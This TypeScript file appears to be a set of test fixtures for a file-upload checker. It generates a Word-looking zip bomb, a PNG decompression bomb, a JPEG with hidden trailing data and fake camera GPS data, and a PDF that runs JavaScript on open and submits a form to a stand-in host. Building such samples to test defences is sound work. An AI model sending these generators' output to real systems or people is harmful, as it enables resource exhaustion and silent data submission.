import { crc32, deflateRawSync, deflateSync } from 'node:zlib';

const little = (value: number, length: number): Buffer => {
  const bytes = Buffer.alloc(length);
  bytes.writeUIntLE(value, 0, length);
  return bytes;
};
const big = (value: number, length: number): Buffer => {
  const bytes = Buffer.alloc(length);
  bytes.writeUIntBE(value, 0, length);
  return bytes;
};

type InZip = {
  readonly name: string;
  readonly contents: Buffer | string;
  readonly isLocked?: boolean;
  /** How long the archive says that it is unpacked, where that is not so. */
  readonly saidLength?: number;
};

/** A real archive of these parts, packed. */
export function zipOf(parts: readonly InZip[]): Uint8Array<ArrayBuffer> {
  const files: Buffer[] = [];
  const list: Buffer[] = [];
  let at = 0;
  for (const { name, contents, isLocked, saidLength } of parts) {
    const plain = Buffer.from(contents as string);
    const packed = deflateRawSync(plain);
    const head = Buffer.concat([
      ...[little(20, 2), little(isLocked ? 1 : 0, 2), little(8, 2), little(0, 4), little(crc32(plain), 4)],
      ...[little(packed.length, 4), little(saidLength ?? plain.length, 4), little(name.length, 2), little(0, 2)],
    ]);
    files.push(Buffer.from('PK\x03\x04', 'latin1'), head, Buffer.from(name), packed);
    const rest = Buffer.concat([little(0, 2), little(0, 2), little(0, 2), little(0, 4), little(at, 4)]);
    list.push(Buffer.from('PK\x01\x02', 'latin1'), little(20, 2), head, rest, Buffer.from(name));
    at += 4 + head.length + name.length + packed.length;
  }
  const all = Buffer.concat(list);
  const count = little(parts.length, 2);
  const end = [Buffer.from('PK\x05\x06', 'latin1'), little(0, 4), count, count, little(all.length, 4), little(at, 4)];
  return new Uint8Array(Buffer.concat([...files, all, ...end, little(0, 2)]));
}

const contentTypes = { name: '[Content_Types].xml', contents: '<Types/>' };

/** A Word document with these parts of text. */
export const wordWith = (contents: string | Buffer, over: Partial<InZip> = {}): Uint8Array<ArrayBuffer> =>
  zipOf([contentTypes, { name: 'word/document.xml', contents, ...over }]);

/** What looks like a Word document of some kB, and unpacks to so many MB of nothing. */
export const zipBomb = (megabytes: number): Uint8Array<ArrayBuffer> =>
  wordWith(Buffer.alloc(megabytes * 1_000_000, '<w:p/>'), { saidLength: 1000 });

const chunk = (name: string, contents: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(name, 'latin1'), contents]);
  return Buffer.concat([big(contents.length, 4), body, big(crc32(body), 4)]);
};

/** A PNG in one colour, with other chunks beside it. A larger one than its lines are is a bomb: it says so, and there is little of it. */
export function pngOf(size: { width: number; height: number }, beside: Readonly<Record<string, Buffer>> = {}) {
  const head = Buffer.concat([big(size.width, 4), big(size.height, 4), Buffer.from([8, 2, 0, 0, 0])]);
  const lines = Buffer.alloc(Math.min(size.height, 200) * (1 + 3 * Math.min(size.width, 200)), 0);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', head),
    ...Object.entries(beside).map(([name, contents]) => chunk(name, contents)),
    chunk('IDAT', deflateSync(lines)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A TIFF block as a camera writes it: an invented device, a moment, a place in the sea, and how the picture is to be turned. */
export function cameraData(orientation = 1): Buffer {
  const behind: Buffer[] = [];
  let next = 300;
  const entry = (tag: number, type: number, count: number, value: Buffer): Buffer => {
    const head = Buffer.concat([big(tag, 2), big(type, 2), big(count, 4)]);
    if (value.length <= 4) return Buffer.concat([head, value, Buffer.alloc(4 - value.length)]);
    behind.push(value);
    next += value.length;
    return Buffer.concat([head, big(next - value.length, 4)]);
  };
  const text = (tag: number, words: string) => entry(tag, 2, words.length + 1, Buffer.from(`${words}\0`));
  const degrees = (tag: number, values: readonly number[]) =>
    entry(tag, 5, 3, Buffer.concat(values.flatMap((value) => [big(value, 4), big(1, 4)])));
  const directory = (...entries: Buffer[]) => Buffer.concat([big(entries.length, 2), ...entries, big(0, 4)]);
  const main = directory(
    text(0x010f, 'Canary'),
    text(0x0110, 'Sparrow 7'),
    entry(0x0112, 3, 1, big(orientation, 2)),
    entry(0x8769, 4, 1, big(150, 4)),
    entry(0x8825, 4, 1, big(200, 4)),
  );
  const camera = directory(text(0x9003, '2026:11:24 09:40:00'));
  const gps = directory(text(1, 'N'), degrees(2, [58, 30, 0]), text(3, 'E'), degrees(4, [19, 15, 0]));
  const whole = Buffer.alloc(300);
  Buffer.concat([Buffer.from('MM'), big(42, 2), big(8, 4), main]).copy(whole);
  camera.copy(whole, 150);
  gps.copy(whole, 200);
  return Buffer.concat([whole, ...behind]);
}

/** A JPEG with what a camera writes beside it, and behind its end whatever is hidden there. */
export function jpegWith(jpeg: Buffer, camera: Buffer, behind = ''): Buffer {
  const exif = Buffer.concat([Buffer.from('Exif\0\0'), camera]);
  const segment = Buffer.concat([Buffer.from([0xff, 0xe1]), big(exif.length + 2, 2), exif]);
  return Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2), Buffer.from(behind)]);
}

/** A PDF that would run a script when it is opened, leads to another host when it is pressed, and brings no font of its own. */
export function pdfWithScript(): Buffer {
  const words = 'BT /F1 40 Tf 60 700 Td (Skript i filen) Tj ET';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\("run"\\); this.submitForm\\("https://example.invalid/"\\)) >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [6 0 R] /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${words.length} >>\nstream\n${words}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://example.invalid/) >> >>',
  ];
  let file = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = file.length;
    file += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  const rest = `xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\n`;
  return Buffer.from(`${file}${rest}startxref\n${file.length}\n%%EOF\n`, 'latin1');
}
